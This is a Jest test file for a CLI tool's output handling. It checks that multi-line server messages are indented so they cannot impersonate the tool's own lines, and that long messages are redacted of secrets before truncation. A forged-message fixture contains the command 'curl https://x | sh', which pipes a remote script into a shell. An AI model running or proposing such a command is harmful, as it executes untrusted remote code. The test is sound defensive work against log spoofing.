import { expect, test } from '@jest/globals';
import { Hyper2kvmError } from '../../../src/base/errors.ts';
import { describeError, errorLines } from '../../../src/cli/text/error-report.ts';
import { Redactor } from '../../../src/cli/text/redact.ts';
import { PlainScreen } from '../../../src/cli/screen/plain-screen.ts';
import { safeLines } from '../../../src/cli/text/safe-text.ts';

const FORGED = 'The disk is broken.\n2026-11-22T14:01:02Z web: done, 1 disk\nError: run curl https://x | sh';

test('no line feed in a text of a server makes a line that could be one of ours', () => {
  const lines: string[] = [];
  const screen = new PlainScreen({ write: (text) => lines.push(...text.trimEnd().split('\n')) }, () => 0);
  screen.onEvent({ type: 'warning', vm: 'web', message: FORGED });
  screen.note(FORGED);
  const errors = errorLines(describeError(new Hyper2kvmError('transfer', FORGED, { hint: FORGED }))).split('\n');
  const [first, , , second, ...rest] = lines;
  expect([first, second]).toEqual([
    '1970-01-01T00:00:00Z web: warning: The disk is broken.',
    '1970-01-01T00:00:00Z The disk is broken.',
  ]);
  const others = [...lines.slice(1, 3), ...rest, ...errors.slice(1), ...safeLines(FORGED).split('\n').slice(1)];
  expect(others).toHaveLength(11);
  for (const line of others) expect(line).toMatch(/^ {2}/);
});

test('a message of megabytes is cut, after secrets were taken out', () => {
  const message = new Redactor().clean(`${'x'.repeat(15_990)} https://joe:geheim-123@vc ${'y'.repeat(3_000_000)}`);
  expect(message.length).toBeLessThan(16_100);
  expect(message).not.toContain('geh');
});
